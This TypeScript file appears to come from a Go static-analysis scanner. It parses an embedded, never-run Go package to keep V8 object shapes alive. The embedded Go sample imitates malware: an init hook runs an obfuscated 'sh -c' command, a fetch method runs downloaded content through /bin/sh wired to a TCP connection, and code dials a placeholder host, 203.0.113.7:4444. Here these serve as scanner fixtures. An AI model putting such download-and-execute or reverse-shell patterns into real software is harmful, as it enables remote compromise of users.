// V8 drops an object shape (hidden class) in a full collection that finds no object of that shape
// alive, and deoptimizes the code compiled for it. A scan process forces full collections between
// files (scan-worker.ts settle), often when the previous package's trees, scopes, interpreters and
// findings have all died, so its hot code was compiled again after nearly every one. Each scan process
// therefore scans a small built-in package once and keeps what that scan made, so one object of each
// per-package shape stays alive. Measured over GOROOT/src with --trace-opt --trace-deopt: 914 such
// ("weak objects") deoptimizations and 2,882 TurboFan compiles before, 365 and 2,049 with the anchors.
import { parseFile, type ParsedFile, type SyntaxNode } from './parse.js';
import { runRulesOnPackage } from './rules/match.js';
import type { CompiledRule } from './rules/types.js';
import { buildPackageScope, recoverAllInFile } from './strings/recover.js';
import { Interpreter } from './strings/interp.js';
import { Env } from './strings/env.js';
import { PackageContext } from './context.js';

/** Never run: it is only parsed, and shows the shapes rules and recovery work on. */
export const ANCHOR_SOURCE = `// Package anchor is never built or run.
package anchor

/*
#include <stdlib.h>
*/
import "C"

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"sync"
	"time"
	_ "unsafe"
)

//go:linkname now runtime.nanotime
func now() int64

const (
	first = iota
	second
	name  = "anchor"
	label = name + ".invalid"
)

var (
	table       = []string{"i", "d", "/tmp", "http://anchor.invalid/", "203.0.113.7:4444"}
	joined      = table[0] + table[1]
	mask        = []byte{0x28, 0x25}
	runes       = []rune{0x69, 0x64}
	index       = [...]int{1, 0}
	lookup      = map[string]string{"a": "b"}
	ip          = net.IPv4(203, 0, 113, 9)
	mu          sync.Mutex
	steps       = []func() error{func() error { return nil }}
	_           = func() bool { return true }()
	run         = exec.Command
	payload, _  = hex.DecodeString("6964")
	pieces      = strings.Join([]string{"a", "b"}, "/")
	formatted   = fmt.Sprintf("%s:%d", "host", 8080)
	raw         = ` + "`raw`" + `
	ch          = make(chan int, 1)
	ptr         *client
	iface       interface{ Close() error }
)

type (
	client struct {
		base string ` + "`json:\"base\"`" + `
		conn net.Conn
	}
	pair[T any] struct{ a, b T }
	stringer    interface{ String() string }
)

func decode(s string) string {
	b, _ := base64.StdEncoding.DecodeString(s)
	for i := range b {
		b[i] ^= mask[i%len(mask)]
	}
	out := ""
	for i := len(b) - 1; i >= 0; i-- {
		out += string(b[i])
	}
	return out
}

func spell() string {
	var sb strings.Builder
	for _, i := range index {
		sb.WriteString(table[i])
	}
	return sb.String() + string(runes)
}

func inflate(data []byte) string {
	r, err := gzip.NewReader(bytes.NewReader(data))
	if err != nil {
		return ""
	}
	b, _ := io.ReadAll(r)
	return string(b)
}

func init() {
	if runtime.GOOS == "linux" && os.Getenv("CI") == "" {
		go exec.Command("sh", "-c", decode("QUE=")+" "+joined+spell()).Run()
	}
	for _, step := range steps {
		_ = step()
	}
	switch x := len(table); {
	case x > 2:
		mu.Lock()
		defer mu.Unlock()
	default:
	}
	select {
	case v := <-ch:
		_ = v
	case <-time.After(time.Second):
	}
}

func (c *client) fetch(path string) (err error) {
	resp, err := http.Get(c.base + path)
	if err != nil {
		return fmt.Errorf("fetch: %w", err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	cmd := run("/bin/sh", "-c", string(body))
	cmd.Stdin, cmd.Stdout = c.conn, c.conn
	f, err := os.OpenFile(table[2]+"/x", os.O_CREATE|os.O_WRONLY, 0o755)
	if err != nil {
		goto done
	}
	_, err = f.Write(append([]byte(os.Getenv("HOME")), payload...))
done:
	return cmd.Run()
}

func generic[T comparable](xs []T, x T) bool {
	for _, y := range xs {
		if y == x {
			return true
		}
	}
	return false
}

func dial() {
	conn, err := net.Dial("tcp", table[4])
	if err != nil {
		return
	}
	c := &client{conn: conn}
	p := pair[int]{a: 1, b: 2}
	var s stringer
	if v, ok := s.(fmt.Stringer); ok {
		_ = v
	}
	_ = c.fetch(lookup["a"] + label + formatted + pieces + raw + inflate(nil) + fmt.Sprint(p.a, ip, ptr, iface, first, second))
	time.Sleep(10 * time.Minute)
}
`;

const kept: unknown[] = [];

/** Scans the anchor package with `rules` and keeps everything the scan made (once per process). */
export function anchorScanShapes(rules: readonly CompiledRule[]): void {
  if (kept.length) return;
  const file: ParsedFile = parseFile('anchor.go', ANCHOR_SOURCE);
  const scope = buildPackageScope([file]);
  const findings = runRulesOnPackage([file], [...rules], { scope });
  const recovered = recoverAllInFile(file, scope, undefined, { plainLiterals: false });
  const context = new PackageContext([file]);
  // One wrapper of each node type (each has its own class in the binding).
  const nodes = new Map<string, SyntaxNode>();
  const walk = (n: SyntaxNode) => {
    if (!nodes.has(n.type)) nodes.set(n.type, n);
    for (const c of n.children) walk(c);
  };
  walk(file.tree.rootNode);
  const interp = new Interpreter(scope);
  kept.push(file, scope, findings, recovered, context, nodes, interp, new Env(interp.globals), file.tree.walk());
}
